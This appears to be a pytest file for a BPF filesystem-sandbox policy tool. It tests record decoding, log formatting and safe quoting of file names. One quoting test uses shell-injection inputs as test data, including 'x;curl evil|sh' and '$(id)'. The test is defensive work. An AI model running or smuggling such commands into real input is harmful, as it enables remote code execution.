# SPDX-License-Identifier: Apache-2.0
"""What the kernel tells, as questions: each one leads back to what was asked."""

import shlex

import pytest
from kernel_program import NUMBERS
from policies import Random

from boesfsd.documents import Document
from boesfsd.policy import operations, questions, records
from boesfsd.policy.places import Place, parse
from boesfsd.policy.table import Request

SEEDS = 40


def record_of(request: Request) -> tuple[dict[str, int], bytes, bytes, bytes]:
    """As bpf/boesfs_policy.bpf.c fills it in."""
    row = operations.TABLE[request.operation]
    abi = row.abi or row.name
    fields = {f"arg{index}": 0 for index in range(4)} | {"uid": request.uid, "access": 0}
    fields["op"] = NUMBERS[f"BOESFS_OP_{abi.upper()}"]
    for index, name in enumerate(row.arguments):
        fields[f"arg{row.first + index}"] = request.arguments.get(name, 0) % (1 << 64)
    for bit in records.CHANGES.get(row.name, ()):
        fields["access"] |= NUMBERS[f"BOESFS_ATTR_{bit}"]
    path, other = (b"/" + b"/".join(names) for names in (request.path, request.other))
    if row.name in ("link-to", "rename-to"):
        path, other = other, path
    string = next((request.texts.get(name, b"") for name in row.texts if name != operations.OTHER), b"")
    return fields, path, other, string


@pytest.mark.parametrize("name", operations.TABLE)
def test_each_operation_leads_back_to_itself(name: str) -> None:
    row = operations.TABLE[name]
    for seed in range(SEEDS):
        drawn = Random(seed).request()._replace(operation=name)
        texts = {text: drawn.texts.get(text, b"t") for text in row.texts if text != operations.OTHER}
        arguments = {argument: seed * 7 + index for index, argument in enumerate(row.arguments)}
        other = drawn.other if operations.OTHER in row.texts else ()
        request = Request(name, drawn.path, other, arguments, texts, uid=drawn.uid)
        asked = records.asked(*record_of(request), NUMBERS)
        found = next(one for one in asked if one.operation == name)
        assert found._replace(other=found.other if other else ()) == request
        both = {"link": 2, "link-to": 2, "rename": 2, "rename-to": 2}
        assert len(asked) == both.get(name, 1)


def test_a_setattr_of_several_things_is_several_questions_and_who_truncates_sets_no_time() -> None:
    access = NUMBERS["BOESFS_ATTR_MODE"] | NUMBERS["BOESFS_ATTR_UID"] | NUMBERS["BOESFS_ATTR_MTIME"]
    fields = {"op": NUMBERS["BOESFS_OP_SETATTR"], "access": access, "uid": 0, **{f"arg{i}": i for i in range(4)}}
    assert [one.operation for one in records.asked(fields, b"/a", b"", b"", NUMBERS)] == ["chmod", "chown", "utimes"]
    fields["access"] = NUMBERS["BOESFS_ATTR_SIZE"] | NUMBERS["BOESFS_ATTR_MTIME"]
    assert [one.operation for one in records.asked(fields, b"/a", b"", b"", NUMBERS)] == ["truncate"]


def test_a_chown_of_the_owner_alone_has_no_group() -> None:
    fields = {"op": NUMBERS["BOESFS_OP_SETATTR"], "uid": 0, **{f"arg{i}": i for i in range(4)}}
    for bits, wanted in ((("UID",), {"uid": 1}), (("GID",), {"gid": 2}), (("UID", "GID"), {"uid": 1, "gid": 2})):
        fields["access"] = sum(NUMBERS[f"BOESFS_ATTR_{bit}"] for bit in bits)
        (request,) = records.asked(fields, b"/a", b"", b"", NUMBERS)
        assert request.arguments == wanted


@pytest.mark.parametrize(
    ("request_", "says"),
    [
        (Request("read", (b"a",), arguments={"length": 1, "offset": 2}), "read /a length=1 offset=2"),
        (Request("lookup", ()), "lookup /"),
        (Request("chmod", (b"a",), arguments={"mode": 0o4755}), "chmod /a mode=0o4755"),
        (Request("rename", (b"a",), (b"b", b"c"), {"flags": 0}), "rename /a other=/b/c flags=0o0"),
        (Request("symlink", (b"l",), texts={"target": b"../x"}), "symlink /l target=../x"),
        (Request("llseek", (b"a",), arguments={"offset": (1 << 64) - 1, "whence": 0}), "llseek /a offset=-1 whence=0"),
        (Request("ioctl", (b"a",), arguments={"command": 0x5401}), "ioctl /a command=0x5401"),
    ],
)
def test_a_question_is_written_as_people_ask_it(request_: Request, says: str) -> None:
    assert records.written(request_) == says
    operation, path, *words = shlex.split(says)
    assert questions.parse(operation, path, words, frozenset(), 0)[0]._replace(other=request_.other) == request_


@pytest.mark.parametrize("name", [b"a\nMESSAGE=x", b"\xff\xfe", b"\x1b[31m", "ü\u2028".encode(), b"\x7f"])
def test_no_name_breaks_the_line_or_speaks_to_a_terminal(name: bytes) -> None:
    text = records.written(Request("lookup", (name,)))
    assert text.isprintable()
    assert len(shlex.split(text)) == 2


@pytest.mark.parametrize(
    "name", [b"a b", b"x;curl evil|sh", b"$(id)", b"'", b"**", b"a*", b"back\\slash", b'"', b"- x: y"]
)
def test_what_is_made_to_be_pasted_means_just_the_name(name: bytes) -> None:
    request = Request("lookup", (name,))
    _, path = shlex.split(records.written(request))
    assert questions.parse("lookup", path, [], frozenset(), 0)[0] == request
    document = Document(f"rules: [{{allow: lookup, on: {records.place((name,))}}}]", "f", "InvalidPolicy")
    assert parse(document.data["rules"][0]["on"]) == Place((name,))


@pytest.mark.parametrize(
    ("request_", "line"),
    [
        (Request("read", (b"a", b"b"), arguments={"length": 17, "offset": 3}), b"[deny] /bin/sh,read,/a/b,17,3\n"),
        (Request("chmod", (b"a",), arguments={"mode": 0o644}), b"[deny] /bin/sh,setattr,/a,420,0,0\n"),
        (Request("chown", (b"a",), arguments={"uid": 1, "gid": 2}), b"[deny] /bin/sh,setattr,/a,0,1,2\n"),
        (Request("link", (b"a",), (b"b",)), b"[deny] /bin/sh,link,/a,/b\n"),
        (Request("link-to", (b"b",), (b"a",)), b"[deny] /bin/sh,link,/a,/b\n"),
        (Request("rename", (b"a",), (b"b",), {"flags": 1}), b"[deny] /bin/sh,rename,/a,/b\n"),
        (Request("rename-to", (b"b",), (b"a",), {"flags": 1}), b"[deny] /bin/sh,rename,/a,/b\n"),
        (Request("symlink", (b"a",), texts={"target": b"../x"}), b"[deny] /bin/sh,symlink,../x,/a\n"),
        (Request("mmap", (b"a",), arguments={"start": 4096, "end": 8191}), b"[deny] /bin/sh,mmap,/a,0x1000,0x1fff\n"),
        (Request("open", (b"a",), arguments={"flags": 2}), b"[deny] /bin/sh,open,/a\n"),
        (Request("mkdir", (b"new\nline",), arguments={"mode": 511}), b"[deny] /bin/sh,mkdir,/new\\nline,511\n"),
        (Request("iterate", ()), b"[deny] /bin/sh,iterate,/\n"),
        (Request("getxattr", (b"\xff",), texts={"attribute": b"user.x"}), b"[deny] /bin/sh,getxattr,/\xff\n"),
    ],
)
def test_the_original_s_log_has_a_line_for_each(request_: Request, line: bytes) -> None:
    """Its second paths, targets and order of arguments; numbers are decimal but those of mmap."""
    assert records.original(request_, "/bin/sh", denied=True) == line
    assert records.original(request_, "/bin/sh", denied=False) == line.replace(b"[deny]", b"[allow]")
